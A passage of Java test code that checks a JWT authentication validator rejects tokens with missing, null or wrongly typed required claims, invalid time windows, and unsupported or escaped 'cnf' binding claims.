                CORP.token().claim("exp", NOW - 60).claim("nbf", NOW + 60).issue());
    }

    // what every profile requires, and of what type

    private void requiredClaims() {
        var missing = Reason.AUTHENTICATE_JWT_CLAIM_MISSING;
        token("no sub", missing, CORP.token().without("sub").issue());
        token("sub null", missing, CORP.token().claim("sub", null).issue());
        token("sub empty", missing, CORP.token().subject("").issue());
        token(
                "Sub in place of sub",
                missing,
                CORP.token().without("sub").claim("Sub", "alice").issue());
        for (var claim : List.of("sub", "client_id", "azp", "sid", "jti")) {
            for (Object value : List.of(7, true, List.of("alice"), Map.of("a", "b"))) {
                var token = CORP.token().claim(claim, value);
                if (claim.equals("azp")) {
                    token.without("client_id");
                }
                token(claim + " " + TestTokens.json(value), missing, token.issue());
            }
        }
    }

    private void bindings() {
        var unsupported = Reason.AUTHENTICATE_BINDING_UNSUPPORTED;
        for (Object value : List.of(
                Map.of("jkt", "0ZcOCORZNYy-DWpqq30jZyJGHTN0d2HglBV3uiguA4I"),
                Map.of("x5t#S256", "bwcK0esc3ACC3DB2Y5_lESsXE8o9ltc05O89jdN-dg2"),
                Map.of("jwk", Map.of()),
                Map.of(),
                List.of(),
                "",
                "jkt",
                7,
                true)) {
            token(
                    "cnf " + TestTokens.json(value),
                    unsupported,
                    CORP.token().claim("cnf", value).issue());
        }
        token("cnf null", unsupported, CORP.token().claim("cnf", null).issue());
        member("cnf, its name escaped", unsupported, "\"\\u0063nf\":{}");
    }
}
